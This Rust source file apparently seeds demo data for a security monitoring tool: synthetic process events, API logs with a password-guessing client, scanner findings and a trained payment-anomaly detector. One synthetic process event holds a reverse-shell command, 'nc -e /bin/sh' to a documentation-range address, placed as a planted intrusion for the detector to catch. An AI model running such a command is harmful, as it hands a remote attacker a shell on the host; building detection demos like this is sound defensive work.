//! What the other pages show: hosts and their programs, clients of an API, scans for vulnerabilities, a trained detector.
//!
//! The story does without them; they are there for whoever looks around afterwards, so nothing of it raises an alert.

use std::fmt::Write as _;

use lanner_core::time::{DAY_MS, HOUR_MS, MINUTE_MS, SECOND_MS, WEEK_MS};
use lanner_deep::{Detector, Frame, Training};
use lanner_wire::api::QueryResponse;
use serde_json::{Value, json};

use super::story::Times;
use crate::client::Client;
use crate::failure::{Failure, Result};

/// Hosts that run what takes payments.
const HOSTS: [&str; 3] = ["pay-1", "pay-2", "pay-3"];
/// The client that guesses passwords, of a network that is kept for examples.
const GUESSER: &str = "203.0.113.7";
/// How long a row of the detector's table is.
const STEP_MS: i64 = 30 * MINUTE_MS;

/// Writes all of it, as of the end of the story.
pub(super) async fn feed(client: &Client, times: Times) -> Result<()> {
    let now_ms = times.end_ms;
    let profile = json!({ "fields": ["proc.exepath", "proc.pname"], "where": "evt.type in (execve)", "learn": "6h", "memory": 1 });
    let processors = json!({ "processors": [
        { "id": "programs", "stream": "falco", "profile": profile },
        { "id": "api", "stream": "access", "sessions": { "by": ["client"], "idle": "30m" } },
    ] });
    client.post::<Value>(&["api", "v1", "apply"], &processors).await?;
    for (stream, lines) in [("falco", programs(now_ms)), ("access", requests(now_ms))] {
        client.write(&["api", "v1", "events", stream], &[], lines.into_bytes()).await?;
    }
    scans(client, now_ms).await?;
    detector(client, times).await
}

/// A day of what hosts started: always the same, until the worker of one of them opens a connection to somewhere.
fn programs(now_ms: i64) -> String {
    let mut lines = String::new();
    let mut tell = |at_ms: i64, host: &str, parents: &[&str], line: &str| {
        let program = line.split(' ').next().unwrap_or_default();
        let fields = json!({
            "evt.type": "execve", "proc.name": program, "proc.exepath": format!("/usr/bin/{program}"), "proc.cmdline": line,
            "proc.pname": parents.first(), "proc.aname": parents,
        });
        let event = json!({ "time": at_ms, "hostname": host, "rule": "started", "output_fields": fields });
        let _ = writeln!(lines, "{event}");
    };
    for at_ms in (now_ms - DAY_MS..now_ms - 10 * MINUTE_MS).step_by(10 * MINUTE_MS as usize) {
        for host in HOSTS {
            tell(at_ms, host, &["cron", "systemd"], "backup --run");
            tell(at_ms + SECOND_MS, host, &["supervisor", "systemd"], "worker --queue payments");
        }
    }
    tell(
        now_ms - 3 * MINUTE_MS,
        "pay-2",
        &["worker", "supervisor", "systemd"],
        "nc -e /bin/sh 203.0.113.9 4444",
    );
    lines
}

/// Clients that sign in, look and pay, and one that tries passwords.
fn requests(now_ms: i64) -> String {
    let mut lines = String::new();
    let mut ask = |at_ms: i64, client: &str, method: &str, path: &str, status: u16, user: &str| {
        let event = json!({ "time": at_ms, "client": client, "method": method, "path": path, "status": status, "user": user });
        let _ = writeln!(lines, "{event}");
    };
    for nth in 0..40_i64 {
        let (client, user) = (format!("198.51.100.{nth}"), format!("u{nth}"));
        let start_ms = now_ms - 5 * HOUR_MS + nth * 6 * MINUTE_MS;
        let steps = [
            ("POST", "/login"),
            ("GET", "/accounts"),
            ("GET", "/rates"),
            ("POST", "/payments"),
            ("GET", "/accounts"),
        ];
        for (step, (method, path)) in steps.into_iter().enumerate() {
            ask(start_ms + step as i64 * 20 * SECOND_MS, &client, method, path, 200, &user);
        }
    }
    for nth in 0..60 {
        ask(
            now_ms - 20 * MINUTE_MS + nth * 2 * SECOND_MS,
            GUESSER,
            "POST",
            "/login",
            401,
            &format!("u{nth}"),
        );
    }
    lines
}

/// Two scans of the hosts: of what the first one found one is gone in the second, and another is new.
async fn scans(client: &Client, now_ms: i64) -> Result<()> {
    let finding = |check: &str, host: &str, severity: &str, title: &str, id: &str| {
        json!({ "scanner": "nessus", "check": check, "title": title, "host": { "target": host }, "port": 443, "protocol": "tcp",
            "rated": { "severity": severity, "source": "nessus" }, "ids": [id], "solution": "Install the newest version." })
    };
    let old = finding("1", HOSTS[1], "critical", "Log4j executes what it logs", "CVE-2021-44228");
    let gone = finding("2", HOSTS[1], "high", "OpenSSL tells what lies in memory", "CVE-2014-0160");
    let new = finding("3", HOSTS[2], "medium", "TLS 1.0 is offered", "CVE-2011-3389");
    for (id, days, findings) in [("demo-1", 40, [&old, &gone]), ("demo-2", 1, [&old, &new])] {
        let hosts = HOSTS.map(|host| json!({ "id": host }));
        let scan =
            json!({ "scanner": "nessus", "at_ms": now_ms - days * DAY_MS, "complete": true, "hosts": hosts });
        let path = ["api", "v1", "findings", "scans"];
        client.post::<Value>(&path, &json!({ "id": id, "scan": scan, "ran": ["1", "2", "3"] })).await?;
        let lines = findings.map(|it| format!("{it}\n")).concat();
        client.post_lines::<Value>(&[&path[..], &[id]].concat(), lines.into_bytes()).await?;
        client.post::<Value>(&[&path[..], &[id, "end"]].concat(), &json!({})).await?;
    }
    Ok(())
}

/// A detector that learned how the payments of all banks belong together, in one week and then in two.
async fn detector(client: &Client, times: Times) -> Result<()> {
    for (weeks, message) in [(1, "learned from the first week"), (2, "learned from two weeks")] {
        let table = payments(client, times.start_ms, times.start_ms + weeks * WEEK_MS).await?;
        let failed = |why: lanner_deep::TrainError| {
            Failure::program(format!("the demo's detector was not trained: {why}"))
        };
        let training = Training { rows_per_day: (DAY_MS / STEP_MS) as f64, ..Training::default() };
        let trained = Detector::train(&table, &training, &mut |_| ()).map_err(failed)?;
        let bytes = trained.with_notes(json!({ "name": "payments", "step_ms": STEP_MS })).to_bytes();
        let models = ["api", "v1", "models"];
        let kept: Value = client.post_lines(&models, bytes).await?;
        let id = kept["id"].as_str().unwrap_or_default();
        let wanted = json!({ "to": "champion", "message": message });
        client.post::<Value>(&[&models[..], &[id, "promote"]].concat(), &wanted).await?;
    }
    Ok(())
}

/// The payments that went through in each half hour, a column for each bank.
async fn payments(client: &Client, from_ms: i64, to_ms: i64) -> Result<Frame> {
    let query = json!({
        "query": { "stream": "payments", "measure": "count", "where": "status == \"ok\"", "by": ["bank"] },
        "from": from_ms, "to": to_ms, "step": "30m",
    });
    let answer: QueryResponse = client.post(&["api", "v1", "query"], &query).await?;
    let names = answer.series.iter().filter_map(|one| one.labels.get("bank").map(str::to_owned)).collect();
    let n_rows = answer.series.iter().map(|one| one.values.len()).min().unwrap_or(0);
    let row = |row: usize| {
        answer.series.iter().map(move |one| one.values.get(row).copied().flatten().unwrap_or(0.0) as f32)
    };
    let values = (0..n_rows).flat_map(row).collect();
    Frame::new(names, values)
        .map_err(|why| Failure::program(format!("the demo's payments are no table: {why}")))
}
